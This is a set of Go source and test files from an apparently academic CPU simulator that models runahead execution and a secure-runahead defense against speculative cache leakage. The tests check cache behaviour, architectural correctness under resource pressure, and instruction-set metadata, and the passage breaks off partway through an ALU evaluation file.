	// has dropped them by now (iq/lq/sq at this step's issue phase, inflight
	// at this step's writeback), so no queue can hand out a recycled pointer.
	if len(c.deadOld) > 0 {
		for _, u := range c.deadOld {
			c.freeUOp(u)
		}
		c.deadOld = c.deadOld[:0]
	}
	c.deadOld, c.deadNew = c.deadNew, c.deadOld
}
