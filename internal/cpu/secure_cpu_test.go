package cpu

import (
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/mem"
)

// End-to-end checks of the §6 machinery as wired into the core (the
// unit-level semantics live in internal/secure).

// During a secure runahead episode, memory-level fills must land in the SL
// cache instead of the hierarchy; benign (untainted) lines then promote to
// L1 on first use after exit (Algorithm 1 lines 21-23).
func TestSecureRunaheadFillsSLCache(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(280)                     // fill the window: runahead engages
		b.Ld(isa.R(10), isa.R(2), 4096) // benign independent load, cold line
		b.Add(isa.R(11), isa.R(10), isa.R(10))
	}, 4096)
	cfg := DefaultConfig()
	cfg.Secure.Enabled = true
	c := New(cfg, prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no episode")
	}
	if c.SL().Stats.Installs == 0 {
		t.Fatal("secure runahead installed nothing in the SL cache")
	}
	// The benign line was promoted when the re-executed load touched it.
	if c.SL().Stats.Promoted == 0 {
		t.Fatal("no SL entry was promoted to L1 after exit")
	}
	// Architectural result intact (data is zeroed memory).
	if c.IntReg(11) != 0 {
		t.Fatalf("r11 = %d", c.IntReg(11))
	}
}

// The vulnerable machine installs runahead fills directly in the hierarchy;
// the secure machine must not (that difference IS the defense).
func TestSecureRunaheadHidesFills(t *testing.T) {
	mk := func(secureMode bool) (*CPU, uint64) {
		prog := stallProgram(func(b *asm.Builder) {
			b.NopN(280)
			// Gated load: inside an INV-branch scope, tainted by the
			// predicate, so it must never promote (the branch mispredicts).
			b.Movi(isa.R(20), 1)
			b.Bge(isa.R(3), isa.R(20), "skip2") // INV predicate; trained not-taken...
			b.Ld(isa.R(10), isa.R(2), 6144)     // transient-only access
			b.Label("skip2")
		}, 6144)
		cfg := DefaultConfig()
		cfg.Secure.Enabled = secureMode
		c := New(cfg, prog)
		if err := c.Run(testBudget); err != nil {
			t.Fatal(err)
		}
		return c, prog.MustSym("data") + 6144
	}
	// Vulnerable machine: during the warm round the branch is architecturally
	// not-taken (x=0 < 1 ⇒ bge false), so the body executes architecturally
	// too — use the cache state difference on the SECURE machine instead:
	cSec, addr := mk(true)
	_ = addr
	if cSec.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no secure episode")
	}
	// The key invariant: the secure machine never let a runahead fill into
	// the hierarchy directly (installs went to SL, then only promoted lines
	// entered L1).
	if cSec.SL().Stats.Installs == 0 {
		t.Fatal("no SL installs — the secure path was not exercised")
	}
}

// CLFLUSH must evict SL-cache entries too (otherwise a flushed line could be
// served stale from the SL).
func TestCLFLUSHRemovesSLEntry(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(280)
		b.Ld(isa.R(10), isa.R(2), 4096)
		b.Clflush(isa.R(2), 4096) // flushed right after (commits post-exit)
		b.Fence()
		b.Ld(isa.R(12), isa.R(2), 4096)
	}, 4096)
	cfg := DefaultConfig()
	cfg.Secure.Enabled = true
	c := New(cfg, prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	line := c.Hier().LineAddr(prog.MustSym("data") + 4096)
	if _, ok := c.SL().Lookup(line); ok {
		t.Fatal("flushed line still resident in the SL cache")
	}
}

// The secure machine and the vulnerable machine must agree architecturally
// on a store-heavy runahead workload (stress for the Algorithm 1 load path).
func TestSecureArchEquivalence(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(260)
		for i := 0; i < 8; i++ {
			b.Movi(isa.R(10), int64(i*3))
			b.St(isa.R(2), int64(512+i*8), isa.R(10))
			b.Ld(isa.R(11), isa.R(2), int64(512+i*8))
			b.Add(isa.R(12), isa.R(12), isa.R(11))
		}
	})
	run := func(secureMode bool) uint64 {
		cfg := DefaultConfig()
		cfg.Secure.Enabled = secureMode
		c := New(cfg, prog)
		if err := c.Run(testBudget); err != nil {
			t.Fatal(err)
		}
		return c.IntReg(12)
	}
	vuln, sec := run(false), run(true)
	if vuln != sec {
		t.Fatalf("architectural divergence: vulnerable %d, secure %d", vuln, sec)
	}
}

// HitLevel-based probing (the harness-side covert-channel check used by the
// attack tests) must see exactly what the timing model decided.
func TestHarnessProbeMatchesTiming(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) { b.NopN(300) })
	c := New(DefaultConfig(), prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	x := prog.MustSym("x")
	if c.Hier().HitLevel(mem.PortD, x) == mem.LevelMem {
		t.Fatal("the stalling load's line must be cached after the run")
	}
}
