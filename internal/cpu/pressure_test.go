package cpu

import (
	"math/rand"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/iss"
	"specrun/internal/proggen"
	"specrun/internal/runahead"
)

// Failure-injection and resource-pressure tests: the machine must stay
// architecturally correct when individual backend structures saturate.

func runBoth(t *testing.T, cfg Config, prog *asm.Program) (*CPU, *iss.Interp) {
	t.Helper()
	ref := iss.New(prog)
	if err := ref.Run(5_000_000); err != nil {
		t.Fatal(err)
	}
	c := New(cfg, prog)
	if err := c.Run(20_000_000); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < isa.NumIntRegs; i++ {
		if c.IntReg(i) != ref.IntReg[i] {
			t.Fatalf("r%d = %#x, iss %#x", i, c.IntReg(i), ref.IntReg[i])
		}
	}
	return c, ref
}

// A chain of divisions saturates the single unpipelined divider.
func TestDividerSaturation(t *testing.T) {
	b := asm.NewBuilder(0x1000, 0x100000)
	b.Movi(isa.R(1), 1<<40)
	b.Movi(isa.R(2), 3)
	for i := 0; i < 64; i++ {
		b.Div(isa.R(1), isa.R(1), isa.R(2))
	}
	b.Halt()
	runBoth(t, DefaultConfig(), b.MustBuild())
}

// Back-to-back independent misses exhaust the memory controller's
// outstanding-request window; correctness must hold and the requests must
// serialise rather than vanish.
func TestMemoryOutstandingSaturation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Mem.MemMaxOutstanding = 4
	b := asm.NewBuilder(0x1000, 0x100000)
	buf := b.Alloc("buf", 64*64, 64)
	b.MoviAddr(isa.R(1), buf)
	acc := isa.R(3)
	for i := 0; i < 32; i++ {
		b.Ld(isa.R(2), isa.R(1), int64(i*64))
		b.Add(acc, acc, isa.R(2))
	}
	b.Halt()
	c, _ := runBoth(t, cfg, b.MustBuild())
	if c.Hier().Stats.MemRequests < 32 {
		t.Fatalf("only %d memory requests for 32 distinct lines", c.Hier().Stats.MemRequests)
	}
}

// Deep recursion overflows the 16-entry RSB: returns beyond the depth
// mispredict through stale entries, but the architecture must be exact.
func TestRSBOverflowRecursion(t *testing.T) {
	b := asm.NewBuilder(0x1000, 0x100000)
	b.Alloc("stk", 4096, 64)
	b.MoviAddr(isa.SP, b.MustSymNow("stk")+4096)
	b.Movi(isa.R(1), 40) // depth > 2x RSB size
	b.Movi(isa.R(2), 0)
	b.Call("rec")
	b.Halt()
	b.Label("rec")
	b.Addi(isa.R(2), isa.R(2), 1)
	b.Addi(isa.R(1), isa.R(1), -1)
	b.Beq(isa.R(1), isa.R(0), "base")
	b.Call("rec")
	b.Label("base")
	b.Ret()
	c, _ := runBoth(t, DefaultConfig(), b.MustBuild())
	if c.IntReg(2) != 40 {
		t.Fatalf("recursion count = %d, want 40", c.IntReg(2))
	}
}

// A squash storm: data-dependent branches that flip every iteration defeat
// the predictor; recovery must never corrupt state.
func TestSquashStorm(t *testing.T) {
	b := asm.NewBuilder(0x1000, 0x100000)
	b.Movi(isa.R(1), 200) // iterations
	b.Movi(isa.R(2), 0)   // parity accumulator
	b.Movi(isa.R(3), 0)   // sum
	b.Label("loop")
	b.Andi(isa.R(4), isa.R(1), 1)
	b.Beq(isa.R(4), isa.R(0), "even")
	b.Addi(isa.R(3), isa.R(3), 7)
	b.Jmp("next")
	b.Label("even")
	b.Addi(isa.R(3), isa.R(3), 1)
	b.Label("next")
	b.Xor(isa.R(2), isa.R(2), isa.R(4))
	b.Addi(isa.R(1), isa.R(1), -1)
	b.Bne(isa.R(1), isa.R(0), "loop")
	b.Halt()
	c, _ := runBoth(t, DefaultConfig(), b.MustBuild())
	if c.Stats().CondMispredicts == 0 {
		t.Fatal("alternating branch never mispredicted — predictor too strong to test recovery")
	}
	if c.IntReg(3) != 100*7+100*1 {
		t.Fatalf("sum = %d", c.IntReg(3))
	}
}

// Store-queue pressure: more in-flight stores than SQ entries.
func TestStoreQueueSaturation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.SQSize = 4
	b := asm.NewBuilder(0x1000, 0x100000)
	buf := b.Alloc("buf", 4096, 64)
	b.MoviAddr(isa.R(1), buf)
	for i := 0; i < 64; i++ {
		b.Movi(isa.R(2), int64(i))
		b.St(isa.R(1), int64(i*8), isa.R(2))
	}
	b.Ld(isa.R(3), isa.R(1), 63*8)
	b.Halt()
	c, _ := runBoth(t, cfg, b.MustBuild())
	if c.IntReg(3) != 63 {
		t.Fatalf("r3 = %d", c.IntReg(3))
	}
}

// Misaligned loads crossing line boundaries stay functionally exact (the
// timing model charges the first line only; the value must be right).
func TestMisalignedAccess(t *testing.T) {
	b := asm.NewBuilder(0x1000, 0x100000)
	buf := b.Alloc("buf", 256, 64)
	b.MoviAddr(isa.R(1), buf)
	b.Movi(isa.R(2), 0x1122334455667788)
	b.St(isa.R(1), 61, isa.R(2)) // crosses the 64-byte boundary
	b.Ld(isa.R(3), isa.R(1), 61)
	b.Ldb(isa.R(4), isa.R(1), 64)
	b.Halt()
	c, _ := runBoth(t, DefaultConfig(), b.MustBuild())
	if c.IntReg(3) != 0x1122334455667788 {
		t.Fatalf("misaligned round trip = %#x", c.IntReg(3))
	}
}

// Long differential soak across random seeds and both the smallest and the
// most aggressive machine shapes (beyond the six standard configs).
func TestDifferentialPressureConfigs(t *testing.T) {
	if testing.Short() {
		t.Skip("soak test")
	}
	tiny := DefaultConfig()
	tiny.ROBSize = 32
	tiny.IQSize = 8
	tiny.LQSize = 6
	tiny.SQSize = 6
	tiny.IntPRF = 40
	tiny.FPPRF = 24
	tiny.VecPRF = 24
	tiny.FrontQ = 4

	hot := DefaultConfig()
	hot.Runahead.Kind = runahead.KindVector
	hot.Runahead.TriggerLevel = 2 // enter runahead even on L2 misses
	hot.Secure.Enabled = true

	rng := rand.New(rand.NewSource(99))
	for i := 0; i < 10; i++ {
		seed := rng.Int63()
		prog := proggen.Generate(seed, proggen.DefaultOptions())
		for _, cfg := range []Config{tiny, hot} {
			ref := iss.New(prog)
			if err := ref.Run(5_000_000); err != nil {
				t.Fatalf("seed %d: %v", seed, err)
			}
			c := New(cfg, prog)
			if err := c.Run(40_000_000); err != nil {
				t.Fatalf("seed %d: %v", seed, err)
			}
			for r := 0; r < isa.NumIntRegs; r++ {
				if c.IntReg(r) != ref.IntReg[r] {
					t.Fatalf("seed %d r%d: %#x vs %#x", seed, r, c.IntReg(r), ref.IntReg[r])
				}
			}
		}
	}
}
