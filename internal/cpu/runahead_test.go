package cpu

import (
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/runahead"
)

// stallProgram returns a program whose first round warms the I-cache, then
// stalls on a flushed load with the given body behind it.  flushOffsets are
// additional data-region offsets flushed every round (so body loads to them
// stay cold in the measured round).
func stallProgram(body func(b *asm.Builder), flushOffsets ...int64) *asm.Program {
	b := asm.NewBuilder(0x1000, 0x100000)
	x := b.Alloc("x", 64, 64)
	b.Alloc("data", 8192, 64)
	b.Alloc("stk", 512, 64)
	b.MoviAddr(isa.SP, b.MustSymNow("stk")+512)
	b.MoviAddr(isa.R(1), x)
	b.MoviAddr(isa.R(2), b.MustSymNow("data"))
	// Warm pass: execute the body once with x cached.
	b.Movi(isa.R(9), 2)
	b.Label("round")
	b.Clflush(isa.R(1), 0)
	for _, off := range flushOffsets {
		b.Clflush(isa.R(2), off)
	}
	b.Fence()
	b.Ld(isa.R(3), isa.R(1), 0) // stalling load on the second round
	body(b)
	b.Addi(isa.R(9), isa.R(9), -1)
	b.Bne(isa.R(9), isa.R(0), "round")
	b.Halt()
	return b.MustBuild()
}

// Runahead must restore the architectural state captured at entry: the
// committed registers after the run equal the reference outcome even though
// hundreds of instructions pseudo-retired with INV values.
func TestRunaheadCheckpointRestore(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		// Dependent chain off the stalling load: all INV during runahead.
		b.Addi(isa.R(4), isa.R(3), 1)
		b.Addi(isa.R(5), isa.R(4), 1)
		b.NopN(300)
		b.Addi(isa.R(6), isa.R(5), 1)
	})
	c := New(DefaultConfig(), prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no episode")
	}
	// x reads 0; the chain must be architecturally exact.
	if c.IntReg(4) != 1 || c.IntReg(5) != 2 || c.IntReg(6) != 3 {
		t.Fatalf("chain = %d,%d,%d — runahead leaked INV state architecturally",
			c.IntReg(4), c.IntReg(5), c.IntReg(6))
	}
}

// Stores that pseudo-retire during runahead must never reach architectural
// memory, but younger runahead loads must see them via the runahead cache.
func TestRunaheadStoresInvisible(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(260) // ensure the window fills and runahead engages
		b.Movi(isa.R(10), 0xbeef)
		b.St(isa.R(2), 128, isa.R(10)) // store to data+128
		b.Ld(isa.R(11), isa.R(2), 128) // must forward (SQ or runahead cache)
		b.St(isa.R(2), 256, isa.R(11)) // propagate
	})
	c := New(DefaultConfig(), prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	data := prog.MustSym("data")
	// Architecturally the stores DO commit (the code re-executes after
	// exit); the value must be the real one, not a runahead artefact.
	if got := c.Mem().ReadU64(data + 128); got != 0xbeef {
		t.Fatalf("data+128 = %#x, want 0xbeef", got)
	}
	if got := c.Mem().ReadU64(data + 256); got != 0xbeef {
		t.Fatalf("store-to-load through runahead gave %#x", got)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no episode")
	}
}

// A branch with VALID sources inside runahead resolves and recovers normally
// (only INV-source branches stay unresolved).
func TestRunaheadValidBranchRecovers(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(260)
		b.Movi(isa.R(10), 7)
		b.Movi(isa.R(11), 3)
		b.Blt(isa.R(10), isa.R(11), "never") // valid predicate: not taken
		b.Movi(isa.R(12), 111)
		b.Jmp("join")
		b.Label("never")
		b.Movi(isa.R(12), 222)
		b.Label("join")
	})
	c := New(DefaultConfig(), prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.IntReg(12) != 111 {
		t.Fatalf("r12 = %d, want 111", c.IntReg(12))
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no episode")
	}
}

// The SkipINVBranch restriction must stop pseudo-retirement at an INV-source
// branch: nothing behind the branch may touch the cache.
func TestSkipINVBranchBarrier(t *testing.T) {
	var probeAddr uint64
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(260)
		b.Movi(isa.R(10), 5)
		b.Bge(isa.R(3), isa.R(10), "skip") // INV predicate (r3 = stalling load)
		b.Ld(isa.R(11), isa.R(2), 4096)    // would fill data+4096
		b.Label("skip")
	})
	probeAddr = prog.MustSym("data") + 4096
	cfg := DefaultConfig()
	cfg.Runahead.SkipINVBranch = true
	c := New(cfg, prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.Stats().SkipBarriers == 0 {
		t.Fatal("barrier never engaged")
	}
	// The load DOES execute architecturally after exit (x=0 < 5 is false →
	// bge 0>=5 false → fall-through executes it), so presence alone is not
	// the signal; instead check the barrier stat plus architectural state.
	_ = probeAddr
	if !c.Halted() {
		t.Fatal("program did not complete")
	}
}

// Precise runahead must drop non-slice ALU work at dispatch while keeping
// loads flowing (the paper's "only stall slices are executed").
func TestPreciseRunaheadDropsNonSlice(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) {
		b.NopN(200)
		for i := 0; i < 24; i++ {
			b.Mul(isa.R(20), isa.R(21), isa.R(22)) // never feeds an address
		}
		b.Ld(isa.R(11), isa.R(2), 2048)
	})
	cfg := DefaultConfig()
	cfg.Runahead.Kind = runahead.KindPrecise
	c := New(cfg, prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("no episode")
	}
	if c.Stats().DroppedPRE == 0 {
		t.Fatal("precise runahead dropped nothing")
	}
}

// Vector runahead must issue stride prefetches for loads with a learned
// stride.
func TestVectorRunaheadPrefetches(t *testing.T) {
	b := asm.NewBuilder(0x1000, 0x100000)
	x := b.Alloc("x", 64, 64)
	arr := b.Alloc("arr", 1<<16, 64)
	b.MoviAddr(isa.R(1), x)
	b.MoviAddr(isa.R(2), arr)
	// Teach the stride detector: a strided load committed several times.
	b.Movi(isa.R(9), 8)
	b.Label("teach")
	b.Ld(isa.R(3), isa.R(2), 0)
	b.Addi(isa.R(2), isa.R(2), 64)
	b.Addi(isa.R(9), isa.R(9), -1)
	b.Bne(isa.R(9), isa.R(0), "teach")
	// Now stall and let the strided load run ahead.
	b.Movi(isa.R(9), 40)
	b.Clflush(isa.R(1), 0)
	b.Fence()
	b.Ld(isa.R(4), isa.R(1), 0)
	b.Label("ra")
	b.Ld(isa.R(3), isa.R(2), 0)
	b.Addi(isa.R(2), isa.R(2), 64)
	b.Addi(isa.R(9), isa.R(9), -1)
	b.Bne(isa.R(9), isa.R(0), "ra")
	b.Halt()
	prog := b.MustBuild()

	cfg := DefaultConfig()
	cfg.Runahead.Kind = runahead.KindVector
	c := New(cfg, prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Skip("no episode on this layout (fetch-bound); stride prefetch untestable here")
	}
	if c.Stats().VectorPrefetches == 0 {
		t.Fatal("vector runahead issued no lane prefetches")
	}
}

// Runahead episode accounting: reaches recorded, cycles attributed, exit
// restores ModeNormal.
func TestRunaheadStatsConsistent(t *testing.T) {
	prog := stallProgram(func(b *asm.Builder) { b.NopN(400) })
	c := New(DefaultConfig(), prog)
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	s := c.Stats()
	if int(s.RunaheadEpisodes) != len(s.EpisodeReaches) {
		t.Fatalf("episodes %d != reaches %d", s.RunaheadEpisodes, len(s.EpisodeReaches))
	}
	if s.RunaheadCycles == 0 || s.PseudoRetired == 0 {
		t.Fatal("episode accounting empty")
	}
	if c.Mode() != ModeNormal {
		t.Fatal("machine stuck in runahead")
	}
}
