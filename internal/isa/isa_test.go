package isa

import (
	"testing"
	"testing/quick"
)

func TestRegConstructors(t *testing.T) {
	tests := []struct {
		r     Reg
		class RegClass
		idx   int
		str   string
	}{
		{R(0), ClassInt, 0, "r0"},
		{R(31), ClassInt, 31, "r31"},
		{F(3), ClassFP, 3, "f3"},
		{V(15), ClassVec, 15, "v15"},
		{SP, ClassInt, 29, "r29"},
	}
	for _, tt := range tests {
		if tt.r.Class() != tt.class {
			t.Errorf("%v.Class() = %v, want %v", tt.r, tt.r.Class(), tt.class)
		}
		if tt.r.Idx() != tt.idx {
			t.Errorf("%v.Idx() = %d, want %d", tt.r, tt.r.Idx(), tt.idx)
		}
		if tt.r.String() != tt.str {
			t.Errorf("String() = %q, want %q", tt.r.String(), tt.str)
		}
		if !tt.r.Valid() {
			t.Errorf("%v not valid", tt.r)
		}
	}
}

func TestRegValidity(t *testing.T) {
	if NoReg.Valid() {
		t.Error("NoReg must not be valid")
	}
	if R(32).Valid() {
		t.Error("r32 must not be valid")
	}
	if F(16).Valid() {
		t.Error("f16 must not be valid")
	}
	if V(16).Valid() {
		t.Error("v16 must not be valid")
	}
	if !R(0).IsZero() {
		t.Error("r0 must be the zero register")
	}
	if R(1).IsZero() || F(0).IsZero() {
		t.Error("only integer r0 is the zero register")
	}
}

func TestParseRegRoundTrip(t *testing.T) {
	regs := []Reg{R(0), R(7), R(31), F(0), F(15), V(0), V(15)}
	for _, r := range regs {
		got, err := ParseReg(r.String())
		if err != nil {
			t.Fatalf("ParseReg(%q): %v", r.String(), err)
		}
		if got != r {
			t.Errorf("ParseReg(%q) = %v, want %v", r.String(), got, r)
		}
	}
	if r, err := ParseReg("sp"); err != nil || r != SP {
		t.Errorf("ParseReg(sp) = %v, %v", r, err)
	}
	for _, bad := range []string{"", "x1", "r", "r99", "f16", "v16", "r-1"} {
		if _, err := ParseReg(bad); err == nil {
			t.Errorf("ParseReg(%q) succeeded, want error", bad)
		}
	}
}

func TestOpcodeMetadataComplete(t *testing.T) {
	for op := Opcode(1); int(op) < NumOpcodes; op++ {
		if op.Name() == "" || op.Name() == "bad" {
			t.Errorf("opcode %d has no name", op)
		}
		if op.Kind() == KindBad {
			t.Errorf("%s has KindBad", op)
		}
		if op.Kind() != KindNop && op.Kind() != KindFence && op.Kind() != KindHalt && op.FU() == FUNone {
			t.Errorf("%s has no functional unit", op)
		}
		if op.Latency() <= 0 {
			t.Errorf("%s has latency %d", op, op.Latency())
		}
		back, ok := OpcodeByName(op.Name())
		if !ok || back != op {
			t.Errorf("OpcodeByName(%q) = %v, %v", op.Name(), back, ok)
		}
	}
}

func TestTable1FULatencies(t *testing.T) {
	// Table 1: int add 1 cycle, int mult 2, int div 5, fp add 5, fp mult 10,
	// fp div 15.
	tests := []struct {
		op  Opcode
		lat int
	}{
		{ADD, 1}, {MUL, 2}, {DIV, 5}, {FADD, 5}, {FMUL, 10}, {FDIV, 15},
	}
	for _, tt := range tests {
		if tt.op.Latency() != tt.lat {
			t.Errorf("%s latency = %d, want %d", tt.op, tt.op.Latency(), tt.lat)
		}
	}
}

func TestMemoryClassification(t *testing.T) {
	if !LD.IsLoad() || !LDBX.IsLoad() || !FLD.IsLoad() || !VLD.IsLoad() || !RET.IsLoad() {
		t.Error("load classification wrong")
	}
	if !ST.IsStore() || !STBX.IsStore() || !CALL.IsStore() || !CALLR.IsStore() {
		t.Error("store classification wrong")
	}
	if ADD.IsMemRef() || NOP.IsMemRef() {
		t.Error("non-memory op classified as memory")
	}
	if !CLFLUSH.IsMemRef() {
		t.Error("clflush must be a memory reference")
	}
	if LD.MemSize() != 8 || LDB.MemSize() != 1 || VLD.MemSize() != 16 {
		t.Error("memory sizes wrong")
	}
}

func TestControlClassification(t *testing.T) {
	for _, op := range []Opcode{BEQ, BNE, BLT, BGE, BLTU, BGEU} {
		if !op.IsCondBranch() || !op.IsControl() {
			t.Errorf("%s must be a conditional branch", op)
		}
	}
	for _, op := range []Opcode{JMP, JR, CALL, CALLR, RET} {
		if op.IsCondBranch() {
			t.Errorf("%s must not be conditional", op)
		}
		if !op.IsControl() {
			t.Errorf("%s must be control", op)
		}
	}
	if ADD.IsControl() || LD.IsControl() {
		t.Error("ALU/loads are not control")
	}
	if !RDTSC.IsSerializing() || !FENCE.IsSerializing() {
		t.Error("rdtsc and fence serialise")
	}
	if NOP.IsSerializing() {
		t.Error("nop must not serialise")
	}
}

func TestInstSrcAndDest(t *testing.T) {
	var buf [4]Reg
	tests := []struct {
		in   Inst
		srcs []Reg
		dest Reg
	}{
		{Inst{Op: ADD, Rd: R(1), Rs1: R(2), Rs2: R(3)}, []Reg{R(2), R(3)}, R(1)},
		{Inst{Op: ADDI, Rd: R(1), Rs1: R(2), Imm: 5}, []Reg{R(2)}, R(1)},
		{Inst{Op: MOVI, Rd: R(1), Imm: 5}, nil, R(1)},
		{Inst{Op: LD, Rd: R(1), Rs1: R(2), Imm: 8}, []Reg{R(2)}, R(1)},
		{Inst{Op: LDX, Rd: R(1), Rs1: R(2), Rs2: R(3), Scale: 3}, []Reg{R(2), R(3)}, R(1)},
		{Inst{Op: ST, Rs1: R(2), Rs3: R(4)}, []Reg{R(2), R(4)}, NoReg},
		{Inst{Op: STX, Rs1: R(2), Rs2: R(3), Rs3: R(4)}, []Reg{R(2), R(3), R(4)}, NoReg},
		{Inst{Op: BEQ, Rs1: R(1), Rs2: R(2)}, []Reg{R(1), R(2)}, NoReg},
		{Inst{Op: CALL, Target: 64}, []Reg{SP}, SP},
		{Inst{Op: RET}, []Reg{SP}, SP},
		{Inst{Op: CLFLUSH, Rs1: R(5)}, []Reg{R(5)}, NoReg},
		{Inst{Op: RDTSC, Rd: R(9)}, nil, R(9)},
		{Inst{Op: NOP}, nil, NoReg},
	}
	for _, tt := range tests {
		got := tt.in.SrcRegs(buf[:0])
		if len(got) != len(tt.srcs) {
			t.Errorf("%s: srcs = %v, want %v", tt.in, got, tt.srcs)
			continue
		}
		for i := range got {
			if got[i] != tt.srcs[i] {
				t.Errorf("%s: srcs = %v, want %v", tt.in, got, tt.srcs)
			}
		}
		if d := tt.in.Dest(); d != tt.dest {
			t.Errorf("%s: dest = %v, want %v", tt.in, d, tt.dest)
		}
	}
}

func TestInstValidate(t *testing.T) {
	good := []Inst{
		{Op: ADD, Rd: R(1), Rs1: R(2), Rs2: R(3)},
		{Op: LDBX, Rd: R(1), Rs1: R(2), Rs2: R(3), Scale: 0},
		{Op: FST, Rs1: R(1), Rs3: F(2)},
		{Op: VST, Rs1: R(1), Rs3: V(2)},
		{Op: CALL, Target: 0x1000},
		{Op: NOP},
	}
	for _, in := range good {
		if err := in.Validate(); err != nil {
			t.Errorf("Validate(%s) = %v, want nil", in, err)
		}
	}
	bad := []Inst{
		{Op: BAD},
		{Op: ADD, Rd: F(1), Rs1: R(2), Rs2: R(3)},       // wrong dest class
		{Op: ADD, Rd: R(1), Rs1: Reg(0x1ff), Rs2: R(3)}, // invalid src
		{Op: LDX, Rd: R(1), Rs1: R(2), Rs2: R(3), Scale: 5},
		{Op: ST, Rs1: R(1), Rs3: F(2)}, // wrong store data class
		{Op: FST, Rs1: R(1), Rs3: R(2)},
	}
	for _, in := range bad {
		if err := in.Validate(); err == nil {
			t.Errorf("Validate(%v) = nil, want error", in)
		}
	}
}

func TestInstString(t *testing.T) {
	tests := []struct {
		in   Inst
		want string
	}{
		{Inst{Op: ADD, Rd: R(1), Rs1: R(2), Rs2: R(3)}, "add r1, r2, r3"},
		{Inst{Op: MOVI, Rd: R(1), Imm: 42}, "movi r1, 42"},
		{Inst{Op: LD, Rd: R(1), Rs1: R(2), Imm: 8}, "ld r1, [r2 + 8]"},
		{Inst{Op: LDX, Rd: R(1), Rs1: R(2), Rs2: R(3), Scale: 3, Imm: 0}, "ldx r1, [r2 + r3*8 + 0]"},
		{Inst{Op: ST, Rs1: R(2), Imm: 16, Rs3: R(4)}, "st [r2 + 16], r4"},
		{Inst{Op: BEQ, Rs1: R(1), Rs2: R(2), Target: 0x1040}, "beq r1, r2, 0x1040"},
		{Inst{Op: JMP, Target: 0x2000}, "jmp 0x2000"},
		{Inst{Op: CLFLUSH, Rs1: R(5), Imm: 0}, "clflush [r5 + 0]"},
		{Inst{Op: RDTSC, Rd: R(7)}, "rdtsc r7"},
		{Inst{Op: NOP}, "nop"},
		{Inst{Op: RET}, "ret"},
	}
	for _, tt := range tests {
		if got := tt.in.String(); got != tt.want {
			t.Errorf("String() = %q, want %q", got, tt.want)
		}
	}
}

// Property: register constructor/accessor round trip for all valid indices.
func TestQuickRegRoundTrip(t *testing.T) {
	f := func(n uint8) bool {
		i := int(n) % NumIntRegs
		j := int(n) % NumFPRegs
		return R(i).Idx() == i && R(i).Class() == ClassInt &&
			F(j).Idx() == j && F(j).Class() == ClassFP &&
			V(j).Idx() == j && V(j).Class() == ClassVec
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
