package isa

import "math"

// This file centralises the functional semantics of the ISA so that the
// reference interpreter (internal/iss) and the out-of-order core
// (internal/cpu) compute identical results — a prerequisite for the
// differential tests that assert speculation is architecturally invisible.

// EvalALU computes the result of an integer ALU operation.
// Division by zero yields all-ones (no traps in this ISA).
func EvalALU(op Opcode, a, b uint64, imm int64) uint64 {
	switch op {
	case ADD:
		return a + b
	case SUB:
		return a - b
	case MUL:
		return a * b
	case DIV:
		if b == 0 {
			return ^uint64(0)
		}
		return a / b
	case AND:
		return a & b
	case OR:
		return a | b
	case XOR:
		return a ^ b
	case SHL:
		return a << (b & 63)
	case SHR:
		return a >> (b & 63)
	case ADDI:
		return a + uint64(imm)
	case ANDI:
		return a & uint64(imm)
	case ORI:
		return a | uint64(imm)
	case XORI:
		return a ^ uint64(imm)
	case SHLI:
		return a << (uint64(imm) & 63)
	case SHRI:
		return a >> (uint64(imm) & 63)
	case MOVI:
		return uint64(imm)
	case RDTSC:
		return 0 // supplied by the timing model; the ISS substitutes steps
	}
	panic("isa: EvalALU on non-ALU opcode " + op.Name())
}

// EvalFP computes the result of a floating-point operation on float64 bit
// patterns.
func EvalFP(op Opcode, a, b uint64, imm int64) uint64 {
	fa, fb := math.Float64frombits(a), math.Float64frombits(b)
	var r float64
	switch op {
	case FADD:
		r = fa + fb
	case FSUB:
		r = fa - fb
	case FMUL:
		r = fa * fb
	case FDIV:
		r = fa / fb
	case FMOVI:
		return uint64(imm)
	default:
		panic("isa: EvalFP on non-FP opcode " + op.Name())
	}
	return math.Float64bits(r)
}

// EvalVec computes a lane-wise vector operation on two 128-bit values.
func EvalVec(op Opcode, a, b [2]uint64) [2]uint64 {
	switch op {
	case VADDQ:
		return [2]uint64{a[0] + b[0], a[1] + b[1]}
	case VXORQ:
